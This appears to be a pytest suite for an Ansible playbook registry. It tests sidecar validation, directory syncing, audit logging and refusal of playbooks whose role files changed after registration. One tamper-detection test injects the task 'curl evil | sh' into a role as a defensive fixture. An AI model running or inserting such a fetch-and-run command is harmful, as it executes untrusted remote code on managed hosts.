"""The playbook registry: `playbooks sync` registers what the playbook directory holds (the
whole tree behind each playbook's hash), validates sidecars with errors naming file and key,
refuses what fails Ansible's syntax check or would prompt, and finds playbooks by name or tag."""

from __future__ import annotations

from pathlib import Path

import pytest
from sqlalchemy import select

from core.errors import InvalidInput, PlaybookChanged, UnknownPlaybook
from core.playbook_files import playbook_sha256, verify_unchanged
from core.playbook_registry import (
    get_playbook,
    list_playbooks,
    read_sidecar,
    scan_playbook_dir,
    sync_playbooks,
)
from db.models import AuditLog, Playbook

EXAMPLES = Path(__file__).resolve().parents[2] / "examples" / "playbooks"
PLAY = "- name: Play\n  hosts: all\n  gather_facts: false\n  tasks:\n    - ansible.builtin.ping:\n"
CLI = {"via": "cli", "os_user": "tester"}


@pytest.fixture
def book_dir(tmp_path: Path) -> Path:
    directory = tmp_path / "books"
    directory.mkdir()
    return directory


def write(directory: Path, name: str, text: str = PLAY) -> Path:
    path = directory / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def sidecar_problems(directory: Path, text: str) -> str:
    path = write(directory, "deploy.playbot.yml", text)
    with pytest.raises(InvalidInput) as error:
        read_sidecar(path)
    return str(error.value)


def audit_actions(session) -> list[tuple[str, str]]:
    return [(a.action, a.resource_id) for a in session.scalars(select(AuditLog).order_by(AuditLog.id))]


# reading sidecars -----------------------------------------------------------------------


def test_the_shipped_examples_are_all_valid_playbooks_with_valid_sidecars():
    specs = {spec.name: spec for spec in scan_playbook_dir(EXAMPLES)}

    assert set(specs) == {"ping", "fail", "slow", "deploy"}
    deploy = specs["deploy"].variables
    assert deploy["version"] == {"type": "string", "required": True,
                                 "pattern": "^[0-9][0-9.]*$",
                                 "description": "Release to deploy, e.g. 1.4.2"}
    assert deploy["color"]["choices"] == ["blue", "green"]
    assert (deploy["replicas"]["min"], deploy["replicas"]["max"]) == (1, 10)
    assert all(spec.description for spec in specs.values())


def test_a_full_sidecar_fills_every_field(book_dir):
    path = write(book_dir, "deploy.playbot.yml", """
description: Deploy the web app
tags: [web, deploy]
timeout_seconds: 600
allow_free_vars: true
variables:
  version: {type: string, required: true, pattern: '^[0-9.]+$'}
  env_name: {type: choice, choices: [blue, green], default: blue}
  replicas: {type: integer, min: 1, max: 20, default: 2}
  ratio: {type: number, min: 0, max: 1.5}
  dry_run: {type: boolean, default: false}
  regions: {type: list, choices: [eu, us], default: [eu]}
  db_password: {type: string, secret: true}
  note:
""")

    fields = read_sidecar(path)

    assert fields["description"] == "Deploy the web app"
    assert fields["tags"] == ["web", "deploy"]
    assert fields["timeout_seconds"] == 600
    assert fields["allow_free_vars"] is True
    assert fields["variables"]["env_name"] == {"type": "choice", "choices": ["blue", "green"],
                                               "default": "blue"}
    assert fields["variables"]["db_password"] == {"type": "string", "secret": True}
    assert fields["variables"]["note"] == {"type": "string"}
    assert fields["variables"]["regions"]["default"] == ["eu"]


@pytest.mark.parametrize(("text", "expected"), [
    ("variables:\n  color: {type: colour}\n",
     "deploy.playbot.yml: variables.color: unknown type `colour`"),
    ("variables:\n  color: {type: choice}\n",
     "deploy.playbot.yml: variables.color: type choice needs `choices`"),
    ("variables:\n  color: {type: choice, choices: [blue, green], default: red}\n",
     "variables.color: the default 'red' is not one of the choices"),
    ("variables:\n  replicas: {type: integer, min: 1, max: 10, default: 11}\n",
     "variables.replicas: the default 11 is outside 1..10"),
    ("variables:\n  replicas: {type: integer, default: two}\n",
     "variables.replicas: the default 'two' is not a whole number"),
    ("variables:\n  replicas: {type: integer, min: 5, max: 1}\n",
     "variables.replicas: `min` (5) is greater than `max` (1)"),
    ("variables:\n  version: {type: string, pattern: '[0-9'}\n",
     "variables.version: `pattern` is not a valid regular expression"),
    ("variables:\n  version: {type: string, pattern: '^[0-9]+$', default: 'abc'}\n",
     "variables.version: the default 'abc' does not match the pattern"),
    ("variables:\n  version: {type: string, requird: true}\n",
     "variables.version: unknown key `requird` (did you mean `required`?)"),
    ("variables:\n  version: {type: string, required: yes please}\n",
     "variables.version: `required` must be true or false"),
    ("variables:\n  version: {type: string, required: true, default: '1.0'}\n",
     "`required: true` and a `default` contradict each other"),
    ("variables:\n  ansible_host: {type: string}\n",
     "variables.ansible_host: this name cannot be declared"),
    ("variables:\n  api_token: {type: string}\n",
     "variables.api_token: the name looks like a secret"),
    ("variables:\n  db_password: {type: string, secret: true, default: hunter2}\n",
     "variables.db_password: a secret variable cannot have a default"),
    ("variables:\n  2fast: {type: string}\n",
     "variables.2fast: not a valid variable name"),
    ("variables:\n  flag: {type: boolean, default: maybe}\n",
     "variables.flag: the default 'maybe' is not true or false"),
    ("variables:\n  name_x: {type: boolean, pattern: 'x'}\n",
     "variables.name_x: `pattern` only applies to type string"),
    ("variables: [version]\n", "deploy.playbot.yml: `variables` must be a mapping"),
    ("descripton: typo\n", "deploy.playbot.yml: unknown key `descripton` (did you mean `description`?)"),
    ("timeout_seconds: -5\n", "deploy.playbot.yml: `timeout_seconds` must be a whole number"),
    ("allow_free_vars: sometimes\n", "deploy.playbot.yml: `allow_free_vars` must be true or false"),
    ("check_safe: mostly\n", "deploy.playbot.yml: `check_safe` must be true or false"),
    ("tags: [web, 'bad tag']\n", "deploy.playbot.yml: `tags`: Invalid tag `bad tag`"),
    ("- just\n- a list\n", "deploy.playbot.yml: must be a mapping"),
    ("variables:\n  x: {type: string\n", "deploy.playbot.yml: is not valid YAML (line"),
])
def test_a_sidecar_mistake_is_reported_naming_the_file_and_the_key(book_dir, text, expected):
    assert expected in sidecar_problems(book_dir, text)


def test_every_mistake_of_a_sidecar_is_listed_at_once(book_dir):
    message = sidecar_problems(book_dir, "variables:\n  a: {type: colour}\n  b: {type: choice}\n")

    assert "variables.a" in message
    assert "variables.b" in message


def test_an_empty_sidecar_declares_nothing(book_dir):
    assert read_sidecar(write(book_dir, "deploy.playbot.yml", "")) == {}


# scanning the directory ----------------------------------------------------------------


def test_only_yaml_files_directly_in_the_directory_are_playbooks(book_dir):
    write(book_dir, "ping.yml")
    write(book_dir, "other.yaml")
    write(book_dir, "ping.playbot.yml", "description: Ping\n")
    write(book_dir, "README.md", "# docs")
    write(book_dir, ".hidden.yml")
    (book_dir / "roles").mkdir()
    write(book_dir / "roles", "nested.yml")

    names = [spec.name for spec in scan_playbook_dir(book_dir)]

    assert names == ["other", "ping"]


def test_yaml_that_is_not_a_playbook_is_skipped_with_a_reason(book_dir):
    write(book_dir, "ping.yml")
    write(book_dir, "requirements.yml", "collections:\n  - name: community.general\n")
    from core.playbook_registry import SyncReport

    report = SyncReport()
    names = [spec.name for spec in scan_playbook_dir(book_dir, report)]

    assert names == ["ping"]
    assert "requirements.yml" in report.skipped


def test_playbooks_using_ansible_tags_like_vault_are_still_read(book_dir):
    write(book_dir, "vaulted.yml", PLAY + "  vars:\n    pw: !vault |\n      $ANSIBLE_VAULT;1.1\n")

    assert [spec.name for spec in scan_playbook_dir(book_dir)] == ["vaulted"]


def test_the_same_name_as_yml_and_yaml_is_refused(book_dir):
    write(book_dir, "ping.yml")
    write(book_dir, "ping.yaml")

    with pytest.raises(InvalidInput, match="two files for the playbook `ping`"):
        scan_playbook_dir(book_dir)


def test_a_playbook_that_is_not_valid_yaml_is_refused_with_its_line(book_dir):
    write(book_dir, "broken.yml", "- hosts: all\n  tasks: [\n")

    with pytest.raises(InvalidInput, match=r"broken.yml: is not valid YAML \(line"):
        scan_playbook_dir(book_dir)


def test_a_link_to_a_playbook_outside_the_directory_is_refused(book_dir, tmp_path):
    outside = write(tmp_path, "outside.yml")
    (book_dir / "sneaky.yml").symlink_to(outside)

    with pytest.raises(InvalidInput, match="sneaky.yml: is a link to a file outside"):
        scan_playbook_dir(book_dir)


def test_a_missing_playbook_directory_is_refused(tmp_path):
    with pytest.raises(InvalidInput, match="does not exist"):
        scan_playbook_dir(tmp_path / "nope")


# syncing (both databases) --------------------------------------------------------------


def test_sync_registers_new_playbooks_with_hash_and_sidecar_and_audits_each(session, book_dir):
    path = write(book_dir, "deploy.yml")
    write(book_dir, "deploy.playbot.yml", "description: Deploy\ntags: [web]\ntimeout_seconds: 60\n"
          "variables:\n  version: {type: string, required: true}\n")
    write(book_dir, "ping.yml")

    report = sync_playbooks(session, book_dir, origin=CLI)
    session.commit()

    assert report.created == ["deploy", "ping"]
    deploy = get_playbook(session, "deploy")
    assert deploy.file_path == "deploy.yml"
    assert deploy.file_hash == playbook_sha256(book_dir, path.name)
    assert (deploy.description, deploy.tags, deploy.timeout_seconds) == ("Deploy", ["web"], 60)
    assert deploy.variables == {"version": {"type": "string", "required": True}}
    rows = list(session.scalars(select(AuditLog).where(AuditLog.action == "playbook.register")))
    assert sorted(r.resource_id for r in rows) == ["deploy", "ping"]
    assert all(r.details["via"] == "cli" and r.user_id is None for r in rows)


def test_sync_registers_check_safe_from_the_sidecar_and_nothing_else_is_check_safe(
        session, book_dir):
    # given: one playbook declared check-safe, one with no sidecar
    write(book_dir, "audit.yml")
    write(book_dir, "audit.playbot.yml", "description: Read-only audit\ncheck_safe: true\n")
    write(book_dir, "ping.yml")

    # when
    sync_playbooks(session, book_dir, origin=CLI)
    session.commit()

    # then
    assert get_playbook(session, "audit").check_safe is True
    assert get_playbook(session, "ping").check_safe is False


def test_a_second_sync_with_nothing_changed_writes_nothing(session, book_dir):
    write(book_dir, "ping.yml")
    sync_playbooks(session, book_dir)
    session.commit()
    before = audit_actions(session)

    report = sync_playbooks(session, book_dir)

    assert report.unchanged == ["ping"] and not report.changed
    assert audit_actions(session) == before


def test_sync_updates_a_changed_file_and_sidecar(session, book_dir):
    path = write(book_dir, "ping.yml")
    sync_playbooks(session, book_dir)
    session.commit()
    path.write_text(PLAY + "    - ansible.builtin.debug: {msg: hi}\n")
    write(book_dir, "ping.playbot.yml", "description: Now described\n")

    report = sync_playbooks(session, book_dir)
    session.commit()

    assert report.updated == {"ping": ["description", "file_hash"]}
    book = get_playbook(session, "ping")
    assert book.file_hash == playbook_sha256(book_dir, path.name)
    assert book.description == "Now described"
    assert ("playbook.update", "ping") in audit_actions(session)


def test_sync_deactivates_playbooks_whose_file_vanished_and_revives_them_when_back(session, book_dir):
    write(book_dir, "ping.yml")
    gone = write(book_dir, "old.yml")
    sync_playbooks(session, book_dir)
    session.commit()
    gone.unlink()

    report = sync_playbooks(session, book_dir)
    session.commit()

    assert report.deactivated == ["old"]
    assert report.updated == {"ping": ["file_hash"]}  # the tree lost a file
    assert [b.name for b in list_playbooks(session)] == ["ping"]
    with pytest.raises(UnknownPlaybook, match="deactivated"):
        get_playbook(session, "old")
    assert ("playbook.deactivate", "old") in audit_actions(session)

    write(book_dir, "old.yml")
    again = sync_playbooks(session, book_dir)
    session.commit()

    assert again.updated == {"old": ["reactivated"], "ping": ["file_hash"]}
    assert get_playbook(session, "old").is_active


def test_one_bad_sidecar_refuses_the_whole_sync_and_writes_nothing(session, book_dir):
    write(book_dir, "ping.yml")
    write(book_dir, "deploy.yml")
    write(book_dir, "deploy.playbot.yml", "variables:\n  color: {type: choice}\n")

    with pytest.raises(InvalidInput, match="nothing was changed"):
        sync_playbooks(session, book_dir)
    session.rollback()

    assert session.scalars(select(Playbook)).all() == []
    assert audit_actions(session) == []


def test_a_sidecar_without_its_playbook_is_a_warning(session, book_dir):
    write(book_dir, "ping.yml")
    write(book_dir, "pnig.playbot.yml", "description: typo\n")

    report = sync_playbooks(session, book_dir)

    assert report.created == ["ping"]
    assert any("pnig.playbot.yml" in w for w in report.warnings)


# the whole tree: what changed is named -------------------------------------------------


ROLE_PLAY = ("- name: Play\n  hosts: all\n  gather_facts: false\n  roles: [foo]\n")
ROLE_TASKS = "- name: Ping\n  ansible.builtin.ping:\n"


def test_an_injected_task_in_a_role_refuses_the_run_naming_the_file(session, book_dir):
    write(book_dir, "site.yml", ROLE_PLAY)
    write(book_dir, "roles/foo/tasks/main.yml", ROLE_TASKS)
    sync_playbooks(session, book_dir)
    session.commit()
    book = get_playbook(session, "site")
    assert verify_unchanged(book, book_dir) == (book_dir / "site.yml").resolve()

    write(book_dir, "roles/foo/tasks/main.yml",
          ROLE_TASKS + "- name: Injected\n  ansible.builtin.shell: curl evil | sh\n")

    with pytest.raises(PlaybookChanged) as error:
        verify_unchanged(get_playbook(session, "site"), book_dir)
    assert "`site` changed on disk since it was registered: modified roles/foo/tasks/main.yml" \
        in str(error.value)
    assert "playbot playbooks sync" in str(error.value)


def test_a_launch_after_a_role_edit_is_refused_naming_the_file_and_creates_no_job(world, policy):
    from core import jobs
    from db.models import Job

    write(world.playbook_dir, "site.yml", ROLE_PLAY)
    write(world.playbook_dir, "roles/foo/tasks/main.yml", ROLE_TASKS)
    sync_playbooks(world.session, world.playbook_dir)
    world.session.commit()

    def launch():
        return jobs.launch(world.session, world.user("oscar"), playbook="site", target="web-01",
                           raw_vars={}, check_mode=False, request_key=None, channel_id="C_OPS",
                           policy=policy)

    assert len(launch().jobs) == 1
    world.session.commit()
    write(world.playbook_dir, "roles/foo/tasks/main.yml",
          ROLE_TASKS + "- ansible.builtin.shell: id\n")

    with pytest.raises(PlaybookChanged, match="modified roles/foo/tasks/main.yml"):
        launch()
    world.session.rollback()
    assert len(world.session.scalars(select(Job)).all()) == 1


def test_the_refusal_names_added_and_removed_files_and_counts_the_rest(session, book_dir):
    write(book_dir, "site.yml", ROLE_PLAY)
    write(book_dir, "roles/foo/tasks/main.yml", ROLE_TASKS)
    write(book_dir, "roles/foo/vars/main.yml", "x: 1\n")
    sync_playbooks(session, book_dir)
    session.commit()

    (book_dir / "roles/foo/vars/main.yml").unlink()
    for n in range(6):
        write(book_dir, f"roles/foo/templates/t{n}.j2", "{{ x }}\n")

    with pytest.raises(PlaybookChanged) as error:
        verify_unchanged(get_playbook(session, "site"), book_dir)
    message = str(error.value)
    assert "added roles/foo/templates/t0.j2" in message
    assert "and 2 more files" in message  # 7 changes, 5 named (removals last)


def test_sync_after_a_role_edit_says_what_changed_updates_every_playbook_and_keeps_the_manifest(
        session, book_dir):
    write(book_dir, "site.yml", ROLE_PLAY)
    write(book_dir, "ping.yml")
    write(book_dir, "roles/foo/tasks/main.yml", ROLE_TASKS)
    first = sync_playbooks(session, book_dir, origin=CLI)
    session.commit()
    write(book_dir, "roles/foo/tasks/main.yml", ROLE_TASKS + "- ansible.builtin.debug: {msg: x}\n")

    report = sync_playbooks(session, book_dir, origin=CLI)
    session.commit()

    assert first.tree_changes is None  # nothing to compare with yet
    assert report.changed and report.updated == {"ping": ["file_hash"], "site": ["file_hash"]}
    assert report.tree_changes.modified == ["roles/foo/tasks/main.yml"]
    rows = list(session.scalars(select(AuditLog).where(AuditLog.action == "playbook.sync")
                                .order_by(AuditLog.id)))
    assert len(rows) == 2
    assert rows[1].resource_type == "playbook_dir" and rows[1].details["via"] == "cli"
    assert rows[1].details["changes"]["modified"] == ["roles/foo/tasks/main.yml"]
    assert rows[1].details["files"] == 3
    assert verify_unchanged(get_playbook(session, "site"), book_dir)


def test_a_sync_with_nothing_changed_writes_no_sync_row(session, book_dir):
    write(book_dir, "ping.yml")
    sync_playbooks(session, book_dir)
    session.commit()

    report = sync_playbooks(session, book_dir)

    assert report.tree_changes is not None and not report.tree_changes
    assert [a for a, _ in audit_actions(session)].count("playbook.sync") == 1


# Ansible's syntax check and vars_prompt (the real ansible-playbook) --------------------


def test_a_playbook_failing_the_syntax_check_is_refused_with_ansibles_message(session, book_dir):
    write(book_dir, "ping.yml")
    write(book_dir, "broken.yml", PLAY + "      bogus_key: 1\n")

    with pytest.raises(InvalidInput) as error:
        sync_playbooks(session, book_dir)
    session.rollback()

    message = str(error.value)
    assert "nothing was changed" in message
    assert "broken.yml: fails `ansible-playbook --syntax-check`" in message
    assert "conflicting action statements" in message
    assert "ping.yml" not in message
    assert session.scalars(select(Playbook)).all() == [] and audit_actions(session) == []


def test_a_playbook_using_a_role_that_is_not_there_is_refused(session, book_dir):
    write(book_dir, "site.yml", ROLE_PLAY)

    with pytest.raises(InvalidInput, match="the role 'foo' was not found"):
        sync_playbooks(session, book_dir)


PROMPT_PLAY = ("- name: Ask\n  hosts: all\n  gather_facts: false\n  vars_prompt:\n"
               "    - name: version\n      prompt: Which release?\n      private: false\n"
               "  tasks:\n    - ansible.builtin.debug: {msg: '{{ version }}'}\n")


def test_a_vars_prompt_variable_not_declared_in_the_sidecar_is_refused(session, book_dir):
    write(book_dir, "ask.yml", PROMPT_PLAY)

    with pytest.raises(InvalidInput) as error:
        sync_playbooks(session, book_dir)

    assert "ask.yml, play Ask: prompts for `version` (vars_prompt)" in str(error.value)
    assert "declare `version` in ask.playbot.yml" in str(error.value)


@pytest.mark.parametrize("declaration, accepted", [
    ("{type: string, required: true}", True),
    ("{type: string, default: '1.0'}", True),
    ("{type: string, secret: true, required: true}", True),
    ("{type: string}", False),
    ("{type: string, secret: true}", False),
])
def test_a_prompted_variable_must_be_declared_as_always_given(session, book_dir, declaration,
                                                              accepted):
    write(book_dir, "ask.yml", PROMPT_PLAY)
    write(book_dir, "ask.playbot.yml", f"variables:\n  version: {declaration}\n")

    if accepted:
        assert sync_playbooks(session, book_dir).created == ["ask"]
    else:
        with pytest.raises(InvalidInput, match="ask.yml, play Ask: prompts for"):
            sync_playbooks(session, book_dir)


def test_prompts_in_an_imported_playbook_count_too(session, book_dir):
    write(book_dir, "plays/ask.yml", PROMPT_PLAY)
    write(book_dir, "site.yml", "- ansible.builtin.import_playbook: plays/ask.yml\n")

    with pytest.raises(InvalidInput, match="plays/ask.yml, play Ask: prompts for `version`"):
        scan_playbook_dir(book_dir)


def test_a_templated_prompt_name_is_refused_as_unreadable(book_dir):
    write(book_dir, "ask.yml", PROMPT_PLAY.replace("name: version", "name: '{{ which }}'"))

    with pytest.raises(InvalidInput, match="cannot read"):
        scan_playbook_dir(book_dir)


# finding -------------------------------------------------------------------------------


def test_list_filters_by_tag_case_insensitively(session):
    sync_playbooks(session, EXAMPLES)
    session.commit()

    assert [b.name for b in list_playbooks(session, tag="WEB")] == ["deploy"]
    assert [b.name for b in list_playbooks(session, tag="demo")] == ["deploy", "fail", "ping",
                                                                     "slow"]
    assert list_playbooks(session, tag="nope") == []


def test_get_playbook_suggests_the_closest_names(session):
    sync_playbooks(session, EXAMPLES)
    session.commit()

    with pytest.raises(UnknownPlaybook) as error:
        get_playbook(session, "deplyo")

    assert error.value.suggestions[0] == "deploy"
    assert "not registered" in str(error.value)


def test_get_playbook_ignores_letter_case(session):
    sync_playbooks(session, EXAMPLES)
    session.commit()

    assert get_playbook(session, "PING").name == "ping"
